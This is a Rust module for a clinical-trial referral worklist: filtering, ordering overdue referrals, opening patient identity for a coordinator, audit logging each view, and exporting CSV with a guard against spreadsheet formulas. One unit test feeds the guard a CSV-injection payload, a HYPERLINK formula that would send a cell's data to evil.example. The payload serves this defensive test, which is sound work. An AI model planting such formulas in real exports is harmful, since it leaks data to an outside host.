//! The coordinator's worklist: the referrals of their sites, filtered, overdue ones first,
//! with the patient's identity opened for this coordinator. Every view (page or CSV) is one
//! `referral.list_viewed` audit row naming the referrals shown.

use super::status::Status;
use super::store;
use super::view::{self, ReferralSummary};
use crate::enrolment::consent::identity::{self, Identity};
use chrono::{DateTime, Duration, NaiveDate, NaiveTime, Utc};
use platform::audit::{self, Actor};
use platform::auth::{Principal, Role};
use platform::crypto::Cipher;
use platform::entities::{consent, organisation, referral, site, trial};
use platform::error::ApiError;
use sea_orm::{
    ColumnTrait, DatabaseConnection, EntityTrait, QueryFilter, QueryOrder, QuerySelect, Select,
};
use std::collections::HashMap;
use uuid::Uuid;

/// At most this many referrals are shown (the filters narrow a longer list).
pub const MAX_ROWS: u64 = 1000;

/// What the worklist (page, CSV and `GET /api/v1/referrals`) is narrowed to; `None` is "all".
#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize, utoipa::IntoParams)]
#[into_params(parameter_in = Query)]
pub struct Filters {
    /// One trial.
    pub trial: Option<Uuid>,
    /// One of the coordinator's sites.
    pub site: Option<Uuid>,
    /// One status.
    pub status: Option<Status>,
    /// One referring practice.
    pub practice: Option<Uuid>,
    /// Referred on or after this day (UTC, `YYYY-MM-DD`).
    pub from: Option<NaiveDate>,
    /// Referred on or before this day (UTC, `YYYY-MM-DD`).
    pub to: Option<NaiveDate>,
}

impl Filters {
    /// Reads the query's fields (`trial`, `site`, `status`, `practice`, `from`, `to`); an
    /// empty field is no filter, an unreadable one a validation error naming it.
    pub fn parse(get: impl Fn(&str) -> Option<String>) -> Result<Filters, ApiError> {
        fn field<T>(
            get: &impl Fn(&str) -> Option<String>,
            name: &str,
            read: impl Fn(&str) -> Option<T>,
        ) -> Result<Option<T>, ApiError> {
            match get(name).map(|v| v.trim().to_string()) {
                None => Ok(None),
                Some(v) if v.is_empty() => Ok(None),
                Some(v) => read(&v).map(Some).ok_or_else(|| {
                    ApiError::invalid(
                        &format!("$.{name}"),
                        "invalid",
                        format!("not a valid {name}"),
                    )
                }),
            }
        }
        let uuid = |v: &str| v.parse::<Uuid>().ok();
        let day = |v: &str| NaiveDate::parse_from_str(v, "%Y-%m-%d").ok();
        Ok(Filters {
            trial: field(&get, "trial", uuid)?,
            site: field(&get, "site", uuid)?,
            status: field(&get, "status", Status::parse)?,
            practice: field(&get, "practice", uuid)?,
            from: field(&get, "from", day)?,
            to: field(&get, "to", day)?,
        })
    }

    /// The referrals at `sites` that pass these filters, newest first.
    pub fn select(&self, sites: Vec<Uuid>) -> Select<referral::Entity> {
        let mut q = referral::Entity::find().filter(referral::Column::SiteId.is_in(sites));
        if let Some(t) = self.trial {
            q = q.filter(referral::Column::TrialId.eq(t));
        }
        if let Some(s) = self.site {
            q = q.filter(referral::Column::SiteId.eq(s));
        }
        if let Some(s) = self.status {
            q = q.filter(referral::Column::Status.eq(s.as_str()));
        }
        if let Some(o) = self.practice {
            q = q.filter(referral::Column::OrganisationId.eq(o));
        }
        if let Some(d) = self.from {
            q = q.filter(referral::Column::CreatedAt.gte(d.and_time(NaiveTime::MIN).and_utc()));
        }
        if let Some(d) = self.to.and_then(|d| d.succ_opt()) {
            q = q.filter(referral::Column::CreatedAt.lt(d.and_time(NaiveTime::MIN).and_utc()));
        }
        q.order_by_desc(referral::Column::CreatedAt)
    }

    /// The filters as a query string (`trial=…&status=…`), for the CSV link.
    pub fn query(&self) -> String {
        let mut parts = Vec::new();
        let mut push = |k: &str, v: Option<String>| {
            if let Some(v) = v {
                parts.push(format!("{k}={v}"));
            }
        };
        push("trial", self.trial.map(|v| v.to_string()));
        push("site", self.site.map(|v| v.to_string()));
        push("status", self.status.map(|v| v.as_str().to_string()));
        push("practice", self.practice.map(|v| v.to_string()));
        push("from", self.from.map(|v| v.to_string()));
        push("to", self.to.map(|v| v.to_string()));
        parts.join("&")
    }
}

/// One line of the worklist: the referral's list line ([`ReferralSummary`], also what
/// `GET /api/v1/referrals` lists), with the practice's name, whether it is overdue and the
/// patient's identity. Its summary's fields read through it (`row.status`).
#[derive(Debug, Clone, serde::Serialize)]
pub struct Row {
    /// The referral's list line.
    #[serde(flatten)]
    pub summary: ReferralSummary,
    /// The referring practice's name.
    pub practice_name: String,
    /// Still `referred` after `referrals.overdue_days`.
    pub overdue: bool,
    /// The patient (opened for this coordinator).
    pub patient: Identity,
}

impl std::ops::Deref for Row {
    type Target = ReferralSummary;

    fn deref(&self) -> &ReferralSummary {
        &self.summary
    }
}

/// A choice of a filter: id and name.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Choice {
    /// Id.
    pub id: Uuid,
    /// Name.
    pub name: String,
}

/// The worklist and what its filters may choose from.
#[derive(Debug, Clone)]
pub struct Worklist {
    /// Overdue referrals first (the longest waiting first), then the others newest first.
    pub rows: Vec<Row>,
    /// The trials of the coordinator's sites.
    pub trials: Vec<Choice>,
    /// The coordinator's sites.
    pub sites: Vec<Choice>,
    /// The practices that referred to those sites.
    pub practices: Vec<Choice>,
}

/// The referrals of these sites that pass `filters`, newest first, at most [`MAX_ROWS`]:
/// the one selection behind the worklist and `GET /api/v1/referrals`.
pub async fn selected(
    db: &DatabaseConnection,
    sites: Vec<Uuid>,
    filters: &Filters,
) -> Result<Vec<referral::Model>, ApiError> {
    Ok(filters.select(sites).limit(MAX_ROWS).all(db).await?)
}

/// Whether a referral is overdue at `now`.
pub fn is_overdue(status: &str, created_at: DateTime<Utc>, now: DateTime<Utc>, days: u32) -> bool {
    status == Status::Referred.as_str() && now - created_at >= Duration::days(i64::from(days))
}

/// Overdue first (oldest first), then the rest newest first.
fn order(rows: &mut [Row]) {
    rows.sort_by(|a, b| {
        b.overdue.cmp(&a.overdue).then_with(|| {
            if a.overdue {
                a.created_at.cmp(&b.created_at)
            } else {
                b.created_at.cmp(&a.created_at)
            }
        })
    });
}

/// The worklist of the calling coordinator, written to the audit log as one
/// `referral.list_viewed` row (`format`: `html` or `csv`) listing the referrals shown.
pub async fn worklist(
    db: &DatabaseConnection,
    cipher: &Cipher,
    p: &Principal,
    filters: &Filters,
    overdue_days: u32,
    format: &str,
    now: DateTime<Utc>,
) -> Result<Worklist, ApiError> {
    let u = p.require(&[Role::Coordinator])?;
    let sites = store::coordinator_sites(db, u.id).await?;
    let found = selected(db, sites.clone(), filters).await?;
    let site_rows = site::Entity::find()
        .filter(site::Column::Id.is_in(sites))
        .all(db)
        .await?;
    let trial_names = names(
        trial::Entity::find()
            .filter(trial::Column::Id.is_in(site_rows.iter().map(|s| s.trial_id)))
            .all(db)
            .await?
            .into_iter()
            .map(|t| (t.id, t.title)),
    );
    let site_names = names(site_rows.iter().map(|s| (s.id, s.name.clone())));
    let practice_ids: Vec<Uuid> = referral::Entity::find()
        .filter(referral::Column::SiteId.is_in(site_rows.iter().map(|s| s.id)))
        .select_only()
        .column(referral::Column::OrganisationId)
        .distinct()
        .into_tuple()
        .all(db)
        .await?;
    let practice_names = names(
        organisation::Entity::find()
            .filter(organisation::Column::Id.is_in(practice_ids))
            .all(db)
            .await?
            .into_iter()
            .map(|o| (o.id, o.name)),
    );
    let sealed: HashMap<Uuid, String> = consent::Entity::find()
        .filter(consent::Column::Id.is_in(found.iter().map(|r| r.consent_id)))
        .all(db)
        .await?
        .into_iter()
        .map(|c| (c.id, c.identity_sealed))
        .collect();
    let consents: Vec<Uuid> = found.iter().map(|r| r.consent_id).collect();
    let mut rows = Vec::with_capacity(found.len());
    for (summary, consent_id) in view::lines(found, &trial_names, &site_names)
        .into_iter()
        .zip(consents)
    {
        let sealed = sealed
            .get(&consent_id)
            .ok_or_else(|| ApiError::Internal(anyhow::anyhow!("a referral without its consent")))?;
        rows.push(Row {
            practice_name: practice_names
                .get(&summary.practice_id)
                .cloned()
                .unwrap_or_default(),
            overdue: is_overdue(&summary.status, summary.created_at, now, overdue_days),
            patient: identity::open(cipher, sealed)?,
            summary,
        });
    }
    order(&mut rows);
    let txn = platform::db::write(db).await?;
    audit::append(
        &txn,
        &Actor::user(u.id.to_string()),
        "referral.list_viewed",
        "referral",
        "worklist",
        None,
        Some(&serde_json::json!({
            "format": format,
            "filters": filters,
            "referrals": rows.iter().map(|r| r.id).collect::<Vec<_>>(),
        })),
    )
    .await?;
    txn.commit().await?;
    Ok(Worklist {
        rows,
        trials: choices(trial_names),
        sites: choices(site_names),
        practices: choices(practice_names),
    })
}

fn names(pairs: impl Iterator<Item = (Uuid, String)>) -> HashMap<Uuid, String> {
    pairs.collect()
}

fn choices(names: HashMap<Uuid, String>) -> Vec<Choice> {
    let mut v: Vec<Choice> = names
        .into_iter()
        .map(|(id, name)| Choice { id, name })
        .collect();
    v.sort_by(|a, b| a.name.cmp(&b.name).then(a.id.cmp(&b.id)));
    v
}

/// `'` before a field a spreadsheet would read as a formula
/// ([`platform::csv::formula_guard`]).
fn inert(field: &str) -> &'static str {
    platform::csv::formula_guard(field)
}

/// The worklist as CSV (RFC 4180: every field quoted, quotes doubled, CRLF line ends).
pub fn csv(rows: &[Row]) -> String {
    fn line(out: &mut String, fields: &[&str]) {
        let quoted: Vec<String> = fields
            .iter()
            .map(|f| format!("\"{}{}\"", inert(f), f.replace('"', "\"\"")))
            .collect();
        out.push_str(&quoted.join(","));
        out.push_str("\r\n");
    }
    let mut out = String::new();
    line(
        &mut out,
        &[
            "referral_id",
            "referred_at",
            "overdue",
            "status",
            "reason",
            "trial",
            "site",
            "practice",
            "given_name",
            "family_name",
            "birth_date",
            "phone",
            "email",
        ],
    );
    for r in rows {
        let at = r.created_at.format("%Y-%m-%dT%H:%M:%SZ").to_string();
        let birth = r.patient.birth_date.to_string();
        let id = r.id.to_string();
        line(
            &mut out,
            &[
                &id,
                &at,
                if r.overdue { "yes" } else { "no" },
                &r.status,
                r.reason.as_deref().unwrap_or(""),
                &r.trial_title,
                &r.site_name,
                &r.practice_name,
                &r.patient.given_name,
                &r.patient.family_name,
                &birth,
                r.patient.phone.as_deref().unwrap_or(""),
                r.patient.email.as_deref().unwrap_or(""),
            ],
        );
    }
    out
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    #[test]
    fn overdue_after_the_configured_days_while_still_referred() {
        let now = chrono::TimeZone::with_ymd_and_hms(&Utc, 2026, 12, 2, 9, 0, 0).unwrap();
        let old = now - Duration::days(3);
        assert!(is_overdue("referred", old, now, 3));
        assert!(!is_overdue("referred", now - Duration::days(2), now, 3));
        assert!(!is_overdue("contacted", old, now, 3));
    }

    #[test]
    fn filters_read_empty_as_all_and_name_a_bad_field() {
        let f = Filters::parse(|k| match k {
            "status" => Some("referred".into()),
            "from" => Some("2026-11-01".into()),
            "trial" => Some(String::new()),
            _ => None,
        })
        .unwrap();
        assert_eq!(f.status, Some(Status::Referred));
        assert_eq!(f.trial, None);
        assert_eq!(f.query(), "status=referred&from=2026-11-01");
        let e = Filters::parse(|k| (k == "to").then(|| "yesterday".into())).unwrap_err();
        assert!(e.to_string().contains("validation"), "{e}");
    }

    #[test]
    fn csv_quotes_every_field() {
        let row = Row {
            summary: ReferralSummary {
                id: Uuid::nil(),
                trial_id: Uuid::nil(),
                trial_title: "A \"quoted\", title".into(),
                site_id: Uuid::nil(),
                site_name: "S".into(),
                practice_id: Uuid::nil(),
                status: "referred".into(),
                reason: None,
                created_at: DateTime::from_timestamp(0, 0).unwrap(),
                updated_at: DateTime::from_timestamp(0, 0).unwrap(),
            },
            practice_name: "P\nQ".into(),
            overdue: true,
            patient: Identity {
                given_name: "Élodie".into(),
                family_name: "Zyx".into(),
                birth_date: NaiveDate::from_ymd_opt(1961, 4, 2).unwrap(),
                phone: None,
                email: Some("e@example.org".into()),
            },
        };
        let text = csv(&[row]);
        let lines: Vec<&str> = text.split("\r\n").collect();
        assert!(lines[0].starts_with("\"referral_id\",\"referred_at\""));
        assert!(text.contains("\"A \"\"quoted\"\", title\""));
        assert!(text.contains("\"P\nQ\""));
        assert!(text.contains("\"1970-01-01T00:00:00Z\",\"yes\",\"referred\",\"\""));
        assert!(text.ends_with("\"e@example.org\"\r\n"));
        assert_eq!(inert("=SUM(A1)"), "'");
        assert_eq!(inert("-cmd"), "'");
        assert_eq!(inert("+33 6 12"), "");
        assert_eq!(inert("Zyx"), "");
        assert_eq!(
            inert("-1+HYPERLINK(\"https://evil.example/?\"&I2;\"open\")"),
            "'"
        );
    }
}
